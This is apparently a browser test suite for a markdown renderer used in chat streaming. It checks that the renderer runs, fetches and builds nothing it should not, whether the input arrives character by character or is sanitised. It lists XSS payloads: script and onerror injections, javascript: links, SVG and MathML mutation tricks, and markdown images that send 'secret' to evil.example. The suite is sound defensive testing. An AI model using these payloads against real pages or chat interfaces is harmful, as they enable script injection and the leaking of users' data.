import {expect} from 'chai';
import {Marked} from 'marked';
import {GuardedFrame} from '../../support/markdown-guarded-frame.js';
import type {Breach} from '../../support/markdown-guarded-page.js';
import {until} from '../../support/scripted-wire.js';

interface Row {
  readonly id: string;
  readonly payload: string;
  readonly chunks?: readonly string[];
}

interface Control {
  readonly id: string;
  readonly fires: boolean;
  readonly requests: readonly unknown[];
}

/** Our own, so that something is proven where the shared rows are not there. */
const authored: readonly Row[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '![x](https://evil.example/?q=secret)',
  '[x](javascript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '[a][b]\n\n[b]: https://evil.example/?q=secret "t"',
  '![a][b]\n\n[b]: https://evil.example/pixel.png',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<form action=https://evil.example><input type=submit></form>',
  '<details ontoggle=alert(1) open><summary>x</summary></details>',
  '| a |\n|---|\n| ![x](https://evil.example/t.png) |',
  '> - [![x](https://evil.example/t.png)](https://evil.example)',
  '```html" onmouseover="alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<x id=body name=forms><img name=cookie>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<kbd onclick=alert(1)>x</kbd><kbd><script>alert(1)</script></kbd>',
].map((payload, at) => ({id: `authored-${at}`, payload}));

const isLong = Reflect.get(globalThis, 'LONG') === true;

async function corpus<Entry>(name: string): Promise<Entry[]> {
  const response = await fetch(`/__corpora/${name}`);
  return response.ok ? ((await response.json()) as Entry[]) : [];
}

/** Character by character where that is not too much, else in pieces of odd lengths. */
function piecesOf({payload, chunks}: Row): readonly string[] {
  if (chunks) return chunks;
  const size = payload.length <= 300 ? 1 : 7;
  return payload.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? [];
}

describe('Hostile text', () => {
  let rows: Row[] = [];
  let sample: Row[] = [];
  let frame: GuardedFrame;

  before(async () => {
    rows = await corpus<Row>('xss-public.json');
    sample = [...authored, ...rows.filter((_, at) => isLong || at % 10 === 0)];
    // biome-ignore lint/suspicious/noConsole: the figure is part of the result
    console.log(
      `Hostile text: ${authored.length} rows of our own, ${sample.length - authored.length} of ${rows.length} shared`,
    );
  });
  afterEach(() => frame.close());

  it('runs, fetches and builds nothing that it may not, at no prefix', async () => {
    frame = await GuardedFrame.open({trustedTypes: 'chat-stream'});
    const seen: string[] = [];
    for (const row of sample) {
      for (const {what, detail} of await frame.page.draw(piecesOf(row), 'text'))
        seen.push(`${row.id}: ${what} ${detail}`);
    }
    expect(seen).to.deep.equal([]);
  }).timeout(isLong ? 1_800_000 : 120_000);

  it('runs and fetches nothing where HTML is sanitised, and builds only what is on the list', async () => {
    // Not strict: the sanitiser's inert document raises reports of what would be refused, though nothing in it runs.
    frame = await GuardedFrame.open({trustedTypes: 'chat-stream', isStrict: false});
    const seen: string[] = [];
    for (const row of sample.filter((_, at) => isLong || at % 3 === 0)) {
      for (const {what, detail} of await frame.page.draw([row.payload], 'sanitized')) {
        if (what !== 'require-trusted-types-for') seen.push(`${row.id}: ${what} ${detail}`);
      }
    }
    expect(seen).to.deep.equal([]);
  }).timeout(isLong ? 1_800_000 : 120_000);

  it('is seen to fetch by the page that fetches', async () => {
    frame = await GuardedFrame.open({isStrict: false});
    const address = new URL('/package.json', location.href).href;
    const atOnce = await frame.page.drawRaw(`<img src="${address}">`);
    const seen = (): readonly Breach[] => [...atOnce, ...frame.page.seenLater()];
    await until(() => seen().length > 0);
    expect(seen()).to.deep.equal([{what: 'request', detail: address}]);
  });

  it('is seen to run and fetch by this very test where nothing guards against it', async () => {
    frame = await GuardedFrame.open();
    const controls = await corpus<Control>('xss-positive-controls.json');
    const known = new Set(
      controls.filter(({fires, requests}) => fires || requests.length > 0).map(({id}) => id),
    );
    const own = [authored[1], authored[2], authored[9], authored[16]].filter((row) => row !== undefined);
    const firing = [...own, ...rows.filter(({id}) => known.has(id)).filter((_, at) => at % 10 === 0)];
    const marked = new Marked();
    let seen = 0;
    for (const {payload} of firing) {
      const breaches = await frame.page.drawRaw(marked.parse(payload, {async: false}));
      if (breaches.length > 0) seen += 1;
    }
    // biome-ignore lint/suspicious/noConsole: the figure is part of the result
    console.log(`Positive controls: ${seen} of ${firing.length} seen`);
    expect(seen).to.be.at.least(Math.ceil(firing.length * 0.8));
  }).timeout(isLong ? 1_800_000 : 60_000);
});
